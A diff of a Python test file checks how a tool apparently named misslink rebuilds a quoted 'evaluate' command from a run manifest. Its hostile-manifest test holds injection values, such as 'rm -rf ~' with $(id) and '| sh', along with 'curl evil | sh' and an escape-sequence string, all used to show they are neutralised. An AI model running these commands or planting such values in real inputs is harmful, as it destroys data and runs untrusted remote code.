@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import pytest
 
+from misslink.documents import Manifest
 from misslink.report.links import CaseCommand, build_case_command, quote_case_id
 
 
@@ -13,14 +14,14 @@ def test_the_recorded_command_keeps_what_judges_and_drops_where_it_went():
         "--overwrite --case x --case=y --json --k 3 --dry-run"
     )
 
-    assert build_case_command({"command": recorded}, "elsewhere") == CaseCommand(
+    assert build_case_command(Manifest(command=recorded), "elsewhere") == CaseCommand(
         "misslink evaluate app.py:chain --goldset 'my gold.jsonl' --judge openai:m --k 3",
         "reports/a-case-",
     )
 
 
 def test_without_a_folder_in_the_command_the_run_s_own_gives_the_new_one_its_name():
-    command = {"command": "misslink evaluate a.py:app --goldset g.jsonl"}
+    command = Manifest(command="misslink evaluate a.py:app --goldset g.jsonl")
 
     assert build_case_command(command, "reports/2026 one/").out == "'reports/2026 one'-case-"
     assert build_case_command(command).out == "reports/one-case-"
@@ -33,35 +34,40 @@ def test_another_command_is_told_by_the_manifest():
         "embedding": "app", "seed": 0,
     }  # fmt: skip
 
-    assert build_case_command(manifest, "reports/demo") == CaseCommand(
+    assert build_case_command(Manifest.model_validate(manifest), "reports/demo") == CaseCommand(
         "misslink evaluate a/app.py:chain --goldset a/g.jsonl --judge heuristic --k 3 --depth 100 "
         "--embedding app --seed 0",
         "reports/demo-case-",
     )
     traces = {"traces": "t.jsonl", "goldset": "g.jsonl"}
-    assert build_case_command(traces).head == "misslink evaluate --traces t.jsonl --goldset g.jsonl"
+    assert (
+        build_case_command(Manifest.model_validate(traces)).head
+        == "misslink evaluate --traces t.jsonl --goldset g.jsonl"
+    )
 
 
 @pytest.mark.parametrize(
     "manifest",
     [
-        {}, {"command": "misslink evaluate 'unclosed"}, {"command": 7},
+        {}, {"command": "misslink evaluate 'unclosed"},
         {"app": "module.chain", "goldset": "g.jsonl"}, {"app": "a.py:x", "goldset": "the gold set"},
     ],
 )  # fmt: skip
 def test_a_run_of_objects_has_no_command_and_says_why(manifest):
-    found = build_case_command(manifest)
+    found = build_case_command(Manifest.model_validate(manifest))
 
     assert (found.head, found.out) == ("", "")
     assert "started from Python" in found.reason
 
 
 def test_a_hostile_manifest_adds_no_command_of_its_own():
-    found = build_case_command({"command": "misslink evaluate a; rm -rf ~ && $(id) `id` | sh > f"})
+    found = build_case_command(
+        Manifest(command="misslink evaluate a; rm -rf ~ && $(id) `id` | sh > f")
+    )
 
     assert found.head == "misslink evaluate 'a;' rm -rf '~' '&&' '$(id)' '`id`' '|' sh '>' f"
-    assert build_case_command({"command": "curl evil | sh"}).head == ""
-    assert build_case_command({"command": "misslink evaluate a\x1b[2J"}).head == ""
+    assert build_case_command(Manifest(command="curl evil | sh")).head == ""
+    assert build_case_command(Manifest(command="misslink evaluate a\x1b[2J")).head == ""
 
 
 @pytest.mark.parametrize(
